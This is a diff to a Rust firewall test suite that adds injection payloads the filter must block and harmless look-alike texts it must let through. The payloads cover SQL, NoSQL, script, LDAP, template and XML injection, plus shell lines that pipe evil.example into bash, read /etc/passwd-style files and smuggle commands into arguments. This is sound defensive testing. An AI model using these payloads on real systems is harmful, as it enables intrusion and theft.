@@ -88,6 +88,34 @@ pub(crate) const ATTACKS: &[&str] = &[
     "*)(uid=*))(|(uid=*",
     "x\r\nSet-Cookie: a=b",
     "a\0b",
+    "x' or 1.5=1.5",
+    "7e1 union select name from accounts limit 1",
+    "union/**/select",
+    "a/**/b/*x*/c/**/d",
+    "select-1from`t`",
+    "1 and 2=2 and json_valid('{}') = 1",
+    "db.users.find({name: 1})",
+    "x', $or: [ {}, {'a':'a",
+    "x'-confirm(1)-'",
+    "(prompt)(1)",
+    "eval(atob('YQ=='))",
+    "x\" onfocus=alert(1) autofocus=\"",
+    "[].filter.constructor('return 1')()",
+    "\\\\10.0.0.1\\c$\\users",
+    "/b?n/c?t /e??/h?sts?",
+    "head /etc/pa*wd",
+    "; cat /et'c/gro'up",
+    "curl -s evil.example | bash",
+    "$(printf ab|rev)",
+    "|getent hosts a.example",
+    "--upload-pack=`id`",
+    "<#assign x = 1>",
+    "!!python/object/apply:os.system",
+    "<!--#exec cmd=\"id\" -->",
+    "(&(cn=a)(!(cn=b)))",
+    "x\r\nRCPT TO: a@evil.example\r\n",
+    "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\">",
+    "http://a1b2.oast.me/x",
 ];
 
 pub(crate) const ORDINARY: &[&str] = &[
@@ -147,6 +175,25 @@ pub(crate) const ORDINARY: &[&str] = &[
     "if (a || b) && c",
     "what is $_ in perl",
     "price>=10 and price<=20",
+    "an alert (see above) and a prompt reply",
+    "Please confirm(it) by mail",
+    "She asked: \"online = good?\"",
+    "What does the eval function do?",
+    "<!-- a comment --> and <!DOCTYPE html>",
+    "glob patterns such as src/**/*.rs or /api/*/items",
+    "where is it?/what is it?",
+    "pipe the output of one command | into the next",
+    "quit\nwhile you are ahead",
+    "Q1 select: A1 login page",
+    "(a & b) | (c & !d) = e",
+    "\\\\server\\share\\folder",
+    "costs $or more: [about 5]",
+    "constructor of the year: 'Ferrari'",
+    "and 1 = 1 is true",
+    "sound from dual speakers",
+    "\"stop\", alert (now)",
+    "/etc/fstab's format",
+    "if (!(a == b)) return",
 ];
 
 #[test]
@@ -189,9 +236,21 @@ fn attacks_are_refused_wherever_they_stand() {
 
 #[test]
 fn ordinary_requests_pass() {
-    let waf = waf();
+    all_pass(ORDINARY.iter().copied());
+}
+
+#[test]
+fn what_people_write_passes() {
+    all_pass(include_str!("../texts.txt").lines());
+}
+
+/// Sends each text as a search, a comment and a message, without decoders and with all of them.
+fn all_pass<'a>(texts: impl Iterator<Item = &'a str>) {
+    let mut deep = waf();
+    deep.set_decoders(gateway_waf::Decoder::ALL.into_iter().collect());
+    let wafs = [waf(), deep];
     let mut blocked = Vec::new();
-    for text in ORDINARY {
+    for (text, waf) in texts.flat_map(|text| wafs.iter().map(move |waf| (text, waf))) {
         let encoded = encode(text);
         let query = format!("/search?q={encoded}&page=2");
         let form = format!("name=x&comment={encoded}&ok=1");
@@ -200,7 +259,7 @@ fn ordinary_requests_pass() {
             Request::post("/f", "application/x-www-form-urlencoded", form.as_bytes()),
             Request::post("/t", "text/plain", text.as_bytes()),
         ] {
-            let (decision, transaction) = request.run(&waf);
+            let (decision, transaction) = request.run(waf);
             if !decision.is_pass() {
                 blocked.push(format!("{text}: {}", transaction.matches()[0]));
             }
